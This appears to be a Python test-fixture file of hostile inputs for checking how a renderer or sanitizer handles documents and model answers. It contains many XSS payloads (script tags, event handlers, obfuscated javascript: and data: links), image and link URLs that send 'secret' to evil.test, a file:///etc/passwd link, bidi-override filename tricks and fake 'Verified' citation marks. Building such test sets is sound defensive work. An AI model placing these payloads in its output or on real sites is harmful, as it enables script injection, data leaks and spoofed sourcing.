"""Texts that try to become more than text, as a document or a model may bring them."""

E = "https://evil.test"

MARKUP = f"""# <script>alert(1)</script> <img src=x onerror=alert(1)>

<script src="{E}/a.js"></script>

<img src="{E}/p.png?q=secret" onerror="alert(1)"><svg onload="alert(1)"><animate href=x></svg>
<iframe src="{E}"></iframe><object data="{E}"></object><embed src="{E}">
<style>@import "{E}/a.css"; * {{ background: url({E}/b.png) }}</style>
<link rel="stylesheet" href="{E}/a.css"><base href="{E}/">
<meta http-equiv="refresh" content="0;url={E}">
<form action="{E}"><input name="q"><button formaction="{E}">Verified</button></form>
<!-- <img src="{E}/c.png"> --> <math><mtext></mtext></math>
<details open ontoggle=alert(1)><video src="{E}/v.mp4" autoplay></video></details>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
"""

LINKS = f"""Read [click me]({E}/?q=secret) and [me too](<{E}/a b> "title") or [this][1], {E}/bare,
www.evil.test, <{E}/auto>, <mailto:a@evil.test>, a@evil.test and [here](//evil.test/relative).

[scripts](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)
[vb](vbscript:msgbox(1)) [entity](javascript&colon;alert(1)) [cased](JaVaScRiPt&#58;alert(1))
[tab](java&#9;script:alert(1)) [blob](blob:{E}/x) [file](file:///etc/passwd) [self](/api/document/)

[1]: {E}/?reference "a title"
[note]: javascript:alert(1)

A note[^1] and [![nested]({E}/in.png)]({E}/out).

[^1]: With [a link]({E}/footnote) in it.
"""

IMAGES = f"""![secret]({E}/p.png?q=secret) ![]({E}/empty.png)
![svg](data:image/svg+xml,<svg/onload=alert(1)>)
![reference][picture] ![own](/favicon.svg) ![js](javascript:alert(1))

[picture]: {E}/reference.png
"""

TABLE = f"""| a | <img src=x onerror=alert(1)> | [c]({E}) |
| --- | :-: | ---: |
| ![]({E}/t.png) | <b onclick=alert(1)>b</b> | {E}/x \\| [99] |
| <script>alert(1)</script> | `<iframe>` | ~~[d](javascript:alert(1))~~ |

- [ ] <input type=checkbox onfocus=alert(1) autofocus>
- [x] **[bold]({E})**

> <blockquote cite="{E}">[e]({E})

1. [f]({E})
"""

FENCES = f"""```html
<script>alert(1)</script>
```

~~~{{onclick=alert(1)}} "onmouseover=alert(1)
<img src={E}/f.png>
~~~

Then one that never ends:

````<img src=x onerror=alert(1)>
</code></pre><script>alert(1)</script>
[g]({E})
"""

CHARACTERS = (
    "Left \u202eto right\u202c \u2066isolated\u2069 \u200bzero\u200bwidth \ufeffmark \u00adsoft\n\n"
    "\u202eThis never ends and would turn round what comes behind it\n\n"
    f"java\u200bscript:alert(1) [h](\u200bjavascript:alert(1)) [i]({E}\u202egpj.exe)\n\n"
    "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308 \u0000 \ufffd\n\n" + "unbroken" * 600
)

MARKS = f"""**Verified** ✓ Verified: these exact words are in the document [99] [0] [007] [1000]

[1](javascript:alert(1)) [1]({E}) [1][1] ![1]({E}/1.png) [[1]]({E}) [ 1 ] 【1】

<button aria-label="Source 1, verified">1</button> &#91;1&#93; [¹] \\[1]
"""

ANSWERS = {
    "markup": MARKUP,
    "links": LINKS,
    "images": IMAGES,
    "table": TABLE,
    "fences": FENCES,
    "characters": CHARACTERS,
    "marks": MARKS,
}

NAME = "\u202e<img src=x onerror=alert(1)> [a](javascript:alert(1)) ![b](evil.test) & \"c\" 'd'.md"
# known tags outside of code are left out of the stored text: here they stay
DOCUMENT = f"""The mill at Orbey was closed in <o onclick=alert(1)>1911</o> by [Odile]({E}).

~~~~~~~~
{MARKUP}
{LINKS}
{IMAGES}
{TABLE}
{CHARACTERS.replace(chr(0), "")}
~~~~~~~~
"""
QUESTION = f"When was <img src=x onerror=alert(1)> [the mill]({E}) ![]({E}/q.png) closed?"
